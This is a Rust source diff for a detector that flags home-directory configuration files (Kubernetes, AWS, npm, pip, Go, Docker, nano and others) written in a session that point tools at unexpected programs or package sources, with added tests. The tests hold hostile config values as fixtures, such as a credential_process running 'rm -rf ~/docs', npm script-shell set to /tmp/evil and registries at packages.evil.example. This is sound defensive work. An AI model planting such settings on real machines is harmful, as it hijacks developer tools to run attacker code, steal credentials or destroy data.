@@ -2,6 +2,12 @@
 //! change these files all day, so a change of one says nothing by itself: what is written into it does, and what stands in it when it came
 //! in the session.
 
+mod kinds;
+
+pub use kinds::KUBERNETES_CREDENTIALS;
+
+use kinds::KINDS;
+
 use crate::call::Call;
 use crate::draft::Draft;
 use crate::effect::{EffectKind, Target};
@@ -28,38 +34,6 @@ struct Kind {
     source: &'static str,
 }
 
-/// Programs that hand out credentials for clusters: those of the clouds and of who sells access (kubernetes.io, "client-go credential
-/// plugins").
-pub const KUBERNETES_CREDENTIALS: &[&str] = &[
-    "aws",
-    "aws-iam-authenticator",
-    "gke-gcloud-auth-plugin",
-    "kubelogin",
-    "kubectl",
-    "oci",
-    "doctl",
-    "gcloud",
-    "tsh",
-    "exo",
-    "vultr-cli",
-    "linode-cli",
-    "az",
-    "civo",
-    "scw",
-    "yc",
-    "ibmcloud",
-    "tanzu",
-    "pinniped",
-    "vcluster",
-    "rancher",
-    "minikube",
-    "kubectl-oidc_login",
-    "heptio-authenticator-aws",
-    "hcloud",
-    "ovhcloud",
-    "openstack",
-];
-
 /// What may stand behind a usual value.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Arguments {
@@ -68,150 +42,6 @@ enum Arguments {
     /// The arguments of a program.
     OfProgram,
 }
-
-const KINDS: &[Kind] = &[
-    Kind {
-        files: &[".kube/config"],
-        readers: &[
-            "kubectl",
-            "oc",
-            "helm",
-            "k9s",
-            "kustomize",
-            "flux",
-            "argocd",
-            "istioctl",
-            "stern",
-            "skaffold",
-            "tilt",
-            "kubectx",
-            "kubens",
-            "velero",
-            "linkerd",
-            "cilium",
-        ],
-        variable: "KUBECONFIG",
-        keys: &["command:", "\"command\":", "cmd-path:", "\"cmd-path\":"],
-        usual: KUBERNETES_CREDENTIALS,
-        arguments: Arguments::OfProgram,
-        source: "kubernetes.io, \"client-go credential plugins\"",
-    },
-    Kind {
-        files: &[".aws/config", ".aws/credentials"],
-        readers: &[
-            "aws",
-            "sam",
-            "cdk",
-            "eksctl",
-            "copilot",
-            "terraform",
-            "tofu",
-            "terragrunt",
-            "pulumi",
-            "s5cmd",
-            "packer",
-            "serverless",
-            "sls",
-            "chamber",
-        ],
-        variable: "AWS_CONFIG_FILE",
-        keys: &["credential_process"],
-        usual: &[
-            "aws",
-            "aws-vault",
-            "aws-sso",
-            "granted",
-            "saml2aws",
-            "gimme-aws-creds",
-            "okta-aws-cli",
-            "aws-sso-util",
-            "leapp",
-            "op",
-            "aws_signing_helper",
-            "isengardcli",
-            "awsume",
-            "aws-okta",
-            "aws-runas",
-            "aws-azure-login",
-        ],
-        arguments: Arguments::OfProgram,
-        source: "AWS CLI, \"Sourcing credentials with an external process\"",
-    },
-    Kind {
-        files: &[".npmrc"],
-        readers: &["npm", "npx", "pnpm", "pnpx", "yarn"],
-        variable: "NPM_CONFIG_USERCONFIG",
-        keys: &["script-shell", "node-options", "git", "shell", "init-module", "init.module", "registry"],
-        usual: &[
-            "bash",
-            "sh",
-            "zsh",
-            "git",
-            "/bin/bash",
-            "/bin/sh",
-            "/usr/bin/git",
-            "https://registry.npmjs.org",
-            "https://registry.yarnpkg.com",
-            "https://npm.pkg.github.com",
-            "--max-old-space-size",
-        ],
-        arguments: Arguments::None,
-        source: "docs.npmjs.com, \"config\"",
-    },
-    Kind {
-        files: &[".config/pip/pip.conf", ".pip/pip.conf"],
-        readers: &["pip", "pip3", "pipx", "uv"],
-        variable: "PIP_CONFIG_FILE",
-        keys: &["index-url", "extra-index-url", "find-links", "trusted-host"],
-        usual: &[
-            "https://pypi.org",
-            "pypi.org",
-            "https://test.pypi.org",
-            "https://download.pytorch.org",
-            "files.pythonhosted.org",
-            "pypi.python.org",
-        ],
-        arguments: Arguments::None,
-        source: "pip, \"Configuration\"",
-    },
-    Kind {
-        files: &[".config/go/env"],
-        readers: &["go"],
-        variable: "GOENV",
-        keys: &["goflags", "cc", "cxx", "goproxy", "gonosumdb", "gotoolchain"],
-        usual: &[
-            "gcc",
-            "g++",
-            "clang",
-            "clang++",
-            "cc",
-            "c++",
-            "https://proxy.golang.org",
-            "direct",
-            "off",
-            "local",
-            "auto",
-            "-mod=",
-            "-count=",
-            "-tags=",
-            "-v",
-            "-race",
-            "-trimpath",
-            "go1",
-        ],
-        arguments: Arguments::None,
-        source: "`go help environment`, `go help goproxy`",
-    },
-    Kind {
-        files: &[".docker/config.json"],
-        readers: &["docker", "docker-compose", "buildx"],
-        variable: "DOCKER_CONFIG",
-        keys: &["\"clipluginsextradirs\":"],
-        usual: &["/usr/lib/docker", "/usr/local/lib/docker", "/usr/libexec/docker", "/opt/homebrew"],
-        arguments: Arguments::None,
-        source: "docs.docker.com, \"docker\" configuration files",
-    },
-];
 
 /// What settings in a home directory name, when their text is this, that a program runs or takes packages from, and that is not what such
 /// settings are for; `None` where nothing is.
@@ -223,26 +53,80 @@ pub fn unusual_setting(path: &AbsolutePath, home: &AbsolutePath, text: &str) -> 
 
 /// The first value of a key of this kind that is not usual.
 fn value_in(kind: &Kind, text: &str) -> Option<String> {
-    text.lines().find_map(|line| {
+    joined(text).lines().find_map(|line| {
         let line = line.trim_start().trim_start_matches("- ");
-        if line.starts_with(['#', ';']) || line.starts_with("//") {
+        if is_remark(line) {
             return None;
         }
         let lower = line.to_ascii_lowercase();
-        let key = kind.keys.iter().find(|key| {
-            let behind = |start: &str| start.trim_start().starts_with(['=', ':']);
-            lower.find(*key).is_some_and(|at| {
-                let starts =
-                    at == 0 || lower.get(..at).is_some_and(|before| before.ends_with([' ', '{', ',', '"']));
-                let ends = key.ends_with(':') || lower.get(at + key.len()..).is_some_and(behind);
-                starts && ends
-            })
-        })?;
-        let at = lower.find(*key)? + key.len();
-        let value = line.get(at..)?.trim_start_matches([' ', '=', ':', '[', '"', '\'']).trim();
-        let value = value.trim_end_matches([',', '"', '\'', ']', '}']);
-        (!value.is_empty() && !is_usual(kind, value)).then(|| value.to_owned())
+        let ends = |key: &str, at: usize| {
+            let behind = lower.get(at..).unwrap_or_default().trim_start();
+            key.ends_with([':', ' ']) || behind.starts_with(['=', ':'])
+        };
+        let starts = |at: usize| {
+            let before = lower.get(..at).unwrap_or_default();
+            before.is_empty() || before.ends_with([' ', '{', ',', '"'])
+        };
+        let mut places = kind
+            .keys
+            .iter()
+            .flat_map(|key| lower.match_indices(key).map(move |(at, _)| (*key, at, at + key.len())));
+        places.find_map(|(key, at, end)| {
+            let is_key = starts(at) && ends(key, end);
+            let named = if is_key { named_behind(line.get(end..)?, key) } else { Vec::new() };
+            named.into_iter().find(|value| !value.is_empty() && !is_usual(kind, value)).map(str::to_owned)
+        })
     })
+}
+
+/// What the text behind a key names: its value, or the values of the map or list that stands there.
+fn named_behind<'t>(text: &'t str, key: &str) -> Vec<&'t str> {
+    let text = text.trim_start_matches([' ', '=', ':']);
+    let plain = |value: &'t str| {
+        let value = value.trim_start_matches([' ', '\t', '[', '"', '\'']);
+        value.trim_end_matches([' ', '\t', ',', '"', '\'', ']', '}'])
+    };
+    if let Some(map) = text.strip_prefix('{') {
+        let inner = map.split('}').next().unwrap_or_default();
+        return inner.split(',').filter_map(|entry| Some(plain(entry.rsplit_once(':')?.1))).collect();
+    }
+    if let Some(list) = text.strip_prefix('[') {
+        return vec![plain(list.split(']').next().unwrap_or_default())];
+    }
+    // Further keys of the object may stand behind it.
+    let is_in_object = key.ends_with("\":");
+    vec![plain(if is_in_object { text.split("\",").next().unwrap_or_default() } else { text })]
+}
+
+/// A text without its remarks, in which a list or a map that goes over several lines stands in one. What is opened and never closed is read line by
+/// line.
+fn joined(text: &str) -> String {
+    let lines: Vec<&str> = text.lines().filter(|line| !is_remark(line)).collect();
+    // The last line with each sign that closes.
+    let last = |sign: char| lines.iter().rposition(|line| line.contains(sign));
+    let closing = [('[', ']', last(']')), ('{', '}', last('}'))];
+    let mut out = String::with_capacity(text.len());
+    let mut end: Option<char> = None;
+    for (place, line) in lines.iter().enumerate() {
+        out.push_str(line);
+        end = match end {
+            Some(sign) => Some(sign).filter(|sign| !line.contains(*sign)),
+            None => closing.into_iter().find_map(|(begins, ends, last)| {
+                let (before, behind) = line.rsplit_once(begins)?;
+                let is_value = before.trim_end().ends_with([':', '=']);
+                let is_closed = last.is_some_and(|last| last > place);
+                (is_value && !behind.contains(ends) && is_closed).then_some(ends)
+            }),
+        };
+        out.push(if end.is_some() { ' ' } else { '\n' });
+    }
+    out
+}
+
+/// Whether nothing stands in a line but a remark.
+fn is_remark(line: &str) -> bool {
+    let line = line.trim_start();
+    line.starts_with(['#', ';']) || line.starts_with("//")
 }
 
 /// Whether a value is what the settings of its kind are for: each of its parts, or its program where arguments stand behind one.
@@ -299,24 +183,29 @@ impl Machine<'_> {
     /// Adds that a program reads settings of this home that came in the session, and name what it runs.
     pub(super) fn read_default_settings(&mut self, call: &Call) {
         let program = call.program.split(' ').next().unwrap_or_default();
-        let Some(kind) = KINDS.iter().find(|kind| kind.readers.contains(&program)) else { return };
-        if self.variable(kind.variable).is_some() {
-            return;
-        }
         let home = self.world().place().home.clone();
-        for path in kind.files.iter().map(|file| home.join(file)) {
-            if matches!(self.entry(&path), Entry::Missing)
-                || !(self.is_of_session(&path) || self.came_in_session(&path))
-            {
+        for kind in KINDS.iter().filter(|kind| kind.readers.contains(&program)) {
+            if self.variable(kind.variable).is_some() {
                 continue;
             }
-            let text = self.text(&path);
-            let Some(value) = text.as_exact().and_then(|text| value_in(kind, text)) else { continue };
-            if !self.was_there_before(&value) {
-                self.unread(format!(
-                    "`{program}` reads `{path}`, which came in this session and names `{value}`, which it runs or takes packages from"
-                ));
+            for path in kind.files.iter().map(|file| home.join(file)) {
+                self.read_settings_of(program, kind, &path);
             }
+        }
+    }
+
+    fn read_settings_of(&mut self, program: &str, kind: &Kind, path: &AbsolutePath) {
+        if matches!(self.entry(path), Entry::Missing)
+            || !(self.is_of_session(path) || self.came_in_session(path))
+        {
+            return;
+        }
+        let text = self.text(path);
+        let Some(value) = text.as_exact().and_then(|text| value_in(kind, text)) else { return };
+        if !self.was_there_before(&value) {
+            self.unread(format!(
+                "`{program}` reads `{path}`, which came in this session and names `{value}`, which it runs or takes packages from"
+            ));
         }
     }
 
@@ -360,6 +249,9 @@ mod tests {
             (".aws/config", "[default]\ncredential_process = sh -c \"rm -rf ~/docs\"\n"),
             (".aws/credentials", "[default]\ncredential_process=/tmp/x\n"),
             (".npmrc", "script-shell=./evil\n"),
+            (".npmrc", "# see: [\nscript-shell=/tmp/evil\n"),
+            (".npmrc", "a = [\nscript-shell=/tmp/evil\n"),
+            (".npmrc", "; a = {\nscript-shell=/tmp/evil\n; }\n"),
             (".npmrc", "node-options=--require /tmp/x.js\n"),
             (".npmrc", "registry=https://packages.evil.example\n"),
             (".config/pip/pip.conf", "[global]\nindex-url = https://packages.evil.example/simple\n"),
@@ -379,6 +271,26 @@ mod tests {
                 "{\"cliPluginsExtraDirs\": [\"/usr/lib/docker/cli-plugins\", \"/tmp/p\"]}",
             ),
             (".docker/config.json", "{\"cliPluginsExtraDirs\": [\"/tmp/p\"]}"),
+            (".docker/config.json", "{\n\t\"cliPluginsExtraDirs\": [\n\t\t\"/tmp/p\"\n\t]\n}"),
+            (".docker/config.json", "{\"credsStore\": \"evil\"}"),
+            (
+                ".docker/config.json",
+                "{\"auths\": {}, \"credsStore\": \"desktop\", \"credHelpers\": {\"a.example\": \"evil\"}}",
+            ),
+            (
+                ".docker/config.json",
+                "{\n  \"credHelpers\": {\n    \"a.example\": \"gcr\",\n    \"b.example\": \"evil\"\n  }\n}",
+            ),
+            (".config/pnpm/rc", "script-shell=/tmp/evil\n"),
+            (".config/pnpm/config.yaml", "scriptShell: /tmp/evil\n"),
+            (".config/containers/containers.conf", "[engine]\nhooks_dir = [\"/tmp/e\"]\n"),
+            (".config/containers/containers.conf", "[engine.runtimes]\ncrun = [\n  \"/tmp/crun\"\n]\n"),
+            (".nanorc", "set speller \"sh -c x\"\n"),
+            (".nanorc", "syntax python \"\\.py$\"\nformatter sh -c x\n"),
+            (".config/ccache/ccache.conf", "prefix_command = /tmp/x\n"),
+            (".config/yt-dlp/config", "--exec \"sh -c x\"\n"),
+            (".aria2/aria2.conf", "on-download-complete=/tmp/x\n"),
+            (".config/bat/config", "--pager=\"sh -c x\"\n"),
         ] {
             assert!(found(file, text).is_some(), "{file} {text}");
         }
@@ -402,6 +314,21 @@ mod tests {
             (".config/go/env", "GOFLAGS=-mod=mod -trimpath\nGOTOOLCHAIN=go1.23.4\n"),
             (".docker/config.json", "{\"cliPluginsExtraDirs\": [\"/usr/lib/docker/cli-plugins\"]}"),
             (".docker/config.json", "{\"credsStore\": \"desktop\", \"auths\": {}}"),
+            (
+                ".docker/config.json",
+                "{\n  \"auths\": {\n    \"a.example\": {\n      \"auth\": \"x\"\n    }\n  },\n  \"credHelpers\": {\n    \"a.example\": \"ecr-login\"\n  }\n}",
+            ),
+            (".config/pnpm/rc", "store-dir=/data/pnpm\nauto-install-peers=true\n"),
+            (
+                ".config/containers/containers.conf",
+                "[engine]\nhooks_dir = [\"/usr/share/containers/oci/hooks.d\"]\nruntime = \"crun\"\n",
+            ),
+            (
+                ".nanorc",
+                "set tabsize 4\nset speller \"aspell -x -c\"\ninclude \"/usr/share/nano/*.nanorc\"\n",
+            ),
+            (".config/yt-dlp/config", "-o %(title)s.%(ext)s\n--downloader aria2c\n"),
+            (".config/bat/config", "--theme=\"OneHalfDark\"\n--pager=\"less -FR\"\n"),
             (".kube/other", "      command: sh\n"),
         ] {
             assert_eq!(found(file, text), None, "{file} {text}");
